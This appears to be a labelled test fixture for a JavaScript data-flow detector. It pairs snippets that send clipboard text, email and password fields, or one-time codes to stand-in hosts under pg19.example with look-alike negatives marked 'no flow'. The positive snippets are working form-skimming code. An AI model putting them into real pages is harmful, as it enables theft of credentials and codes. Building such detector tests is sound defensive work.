//# pasted-by-either-clipboard
// flow: input > pec.pg19.example via fetch
document.addEventListener("paste",e=>{const t=(e.clipboardData||window.clipboardData).getData("text");fetch("https://pec.pg19.example/c",{method:"POST",mode:"no-cors",body:t})});

//# near-data-of-another-transfer
// no flow
document.addEventListener("paste",e=>{const t=(e.shop||window.shop).getData("text");fetch("https://ndt.pg19.example/c",{method:"POST",body:t})});

//# vue-put-into-the-page
// flow: email > vpp.pg19.example via xhr
// flow: password > vpp.pg19.example via xhr
// why: the markup stands in the page; the state says what is typed there
new Vue({el:"#app",data:{email:"",password:""},methods:{login:function(){var e=this;axios.post("https://vpp.pg19.example/l",{email:this.email,password:e.password}).then(function(t){e.$router.push("/")})}}});

//# vue-app-with-a-form-in-its-state
// flow: email > vaf.pg19.example via fetch
// flow: password > vaf.pg19.example via fetch
Vue.createApp({data(){return{form:{email:"",password:""},busy:!1}},methods:{async go(){this.busy=!0;await fetch("https://vaf.pg19.example/l",{method:"POST",body:JSON.stringify(this.form)});this.busy=!1}}}).mount("#app");

//# near-vue-that-draws-itself
// no flow
// why: what it draws has no field, and nobody else fills its state
new Vue({data:{password:""},render(h){return h("p","hello")},methods:{go(){fetch("https://nvd.pg19.example/l",{method:"POST",body:this.password})}}});

//# near-vue-with-a-value-of-its-own
// no flow
// why: the address is that of the shop, and the step is no field of a person
new Vue({el:"#app",data:{email:"shop@nvv.pg19.example",step:""},methods:{go(){fetch("https://nvv.pg19.example/l",{method:"POST",body:this.email+this.step})}}});

//# near-data-of-another-thing
// no flow
// why: a request has `data`, too
window.ask=function(client){client.plan({url:"/in",data:{password:""},run(){fetch("https://nda.pg19.example/l",{method:"POST",body:this.password})}})};

//# alpine-component
// flow: email > alp.pg19.example via fetch
// flow: password > alp.pg19.example via fetch
document.addEventListener("alpine:init",()=>{Alpine.data("login",()=>({email:"",password:"",submit(){fetch("https://alp.pg19.example/l",{method:"POST",body:JSON.stringify({email:this.email,password:this.password})})}}))});

//# plugin-of-jquery-on-fields
// flow: email > pjf.pg19.example via xhr
!function(a){a.fn.capture=function(b){var c=a.extend({url:"https://pjf.pg19.example/c"},b);return this.each(function(){a(this).on("change",function(){a.post(c.url,{v:a(this).val(),n:this.name})})})}}(jQuery),jQuery("input[type=email]").capture({});

//# near-plugin-of-jquery-on-pictures
// no flow
!function(a){a.fn.capture2=function(b){return this.each(function(){a(this).on("click",function(){a.post("https://npp.pg19.example/c",{v:a(this).val()})})})}}(jQuery),jQuery("img.zoom").capture2();

//# boxes-of-a-code
// flow: otp > boc.pg19.example via fetch
const boxes11=document.querySelectorAll(".otp input");boxes11.forEach(e=>e.addEventListener("input",()=>{const e=Array.from(boxes11,e=>e.value).join("");6===e.length&&fetch("https://boc.pg19.example/v",{method:"POST",body:e})}));

//# near-rows-of-a-table
// no flow
// why: items of a list, into which nobody types
const rows12=document.querySelectorAll(".prices li");fetch("https://nrt.pg19.example/v",{method:"POST",body:Array.from(rows12,e=>e.value).join("")});
